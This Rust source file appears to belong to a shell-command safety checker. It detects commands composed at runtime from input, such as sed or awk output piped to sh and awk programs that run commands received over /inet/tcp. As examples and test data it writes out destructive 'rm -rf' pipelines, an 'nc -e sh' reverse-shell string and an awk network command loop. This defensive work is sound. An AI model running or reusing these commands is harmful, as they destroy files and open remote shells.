//! Commands that a program puts together from what it reads: `ls | sed 's/^/rm -rf /' | sh`, `awk '{system("rm " $1)}'`.
//!
//! What comes out isn't known, so it is put as a name that no program has, and a row of `ruin.toml` asks about that name.

use shellgate_syntax::{Invocation, Word};

use crate::languages::{Does, awk};
use crate::programs::{ProgramKind, base_name, kind_of, words};

/// Stands for such commands.
pub(super) const COMPOSED: &str = "commands-put-together";

/// Stands for commands that another machine sends.
const SENT: &str = "nc -e sh host.invalid";

/// How many words of an invocation are looked at.
const MAX_WORDS: usize = 32;

/// Signs of a format with a name in it.
const FORMAT_SIGNS: [&str; 6] = ["%(", "{{", "%p", "%n", "%f", "%h"];

/// What an awk program may take from elsewhere.
const AWK_INPUTS: [&str; 4] = ["$", "|&", "ENVIRON", "ARGV"];

/// Whether an invocation prints what it puts together from what it reads or lists.
pub(super) fn composes(invocation: &Invocation) -> bool {
    let own = invocation.words.get(..invocation.words.len().min(MAX_WORDS)).unwrap_or_default();
    let Some(program) = own.first().and_then(|word| word.value.known()).map(base_name) else { return false };
    let arguments = || own.iter().skip(1).map(|word| word.value.lead());
    let has_format =
        || arguments().any(|text| text.contains(' ') && FORMAT_SIGNS.iter().any(|sign| text.contains(sign)));
    let has_code = || {
        kind_of(program) == Some(ProgramKind::Interpreter)
            && arguments().any(|text| {
                text.starts_with('-') && !text.starts_with("--") && text.ends_with(['e', 'E', 'c', 'r', 'p'])
            })
    };
    words::RUIN_COMPOSING_PROGRAMS.contains(&program) && !picks_lines(program, own)
        || has_format()
        || has_code()
}

/// Whether a script of sed only picks lines: `sed -n 1,5p`.
fn picks_lines(program: &str, own: &[Word]) -> bool {
    let script = own.iter().skip(1).find_map(|word| word.value.known().filter(|text| !text.starts_with('-')));
    let is_picking = |c: char| c.is_ascii_digit() || ",$pdq;! ".contains(c);
    program == "sed" && script.is_some_and(|script| script.chars().all(is_picking))
}

/// What an awk program runs that isn't written in it.
pub(super) fn run_by_awk(program: &str) -> Vec<String> {
    let lines = program.matches("getline").count();
    let takes = AWK_INPUTS.iter().any(|sign| program.contains(sign))
        || lines > 1
        || lines > 0 && program.contains("system(");
    let is_shell = |command: &str| {
        let mut words = command.split_whitespace();
        words.next().map(base_name).and_then(kind_of) == Some(ProgramKind::Shell)
            && words.all(|word| word == "-s")
    };
    let composed = match awk::read(program) {
        Some(found) => found.iter().any(|does| match does {
            Does::Run(None) => takes,
            Does::Run(Some(command)) => is_shell(command),
            Does::Write(_) | Does::Read(_) | Does::Connect => false,
        }),
        None => takes && runs_a_value(program),
    };
    let is_connected = program.contains("\"/inet")
        && (program.contains("system(")
            || program.matches("getline").count() > 1
            || program.contains("| \"")
            || program.contains("|\""));
    let composed = composed.then(|| COMPOSED.to_owned());
    composed.into_iter().chain(is_connected.then(|| SENT.to_owned())).collect()
}

/// Whether a program that can't be read seems to run what isn't a string in it.
fn runs_a_value(program: &str) -> bool {
    let by_system = program.split("system").skip(1).any(|rest| {
        let Some(argument) = rest.trim_start().strip_prefix('(').map(str::trim_start) else { return false };
        let text = argument.strip_prefix('"').and_then(|text| text.split_once('"'));
        !text.is_some_and(|(_, behind)| behind.trim_start().starts_with(')'))
    });
    let by_pipe = program.split("getline").take(MAX_WORDS).any(|before| {
        let before = before.trim_end().trim_end_matches('&');
        before.strip_suffix('|').is_some_and(|command| !command.trim_end().ends_with('"'))
    });
    by_system || by_pipe
}

#[cfg(test)]
mod tests {
    use super::run_by_awk;

    #[test]
    fn what_awk_puts_together_is_found() {
        for (program, count) in [
            ("{system(\"rm \" $1)}", 1),
            ("{print \"rm \" $0 | \"sh\"}", 1),
            ("BEGIN{s=\"/inet/tcp/0/h/9\"; while((s |& getline c)>0) system(c)}", 2),
            ("BEGIN{system(\"date\")}", 0),
            ("BEGIN{c=\"date\"; c | getline d; print d}", 0),
            ("{print $1 | \"sort\"}", 0),
            ("/inet/{print $2}", 0),
            ("{n += $1} END {print n}", 0),
        ] {
            assert_eq!(run_by_awk(program).len(), count, "{program}");
        }
    }
}
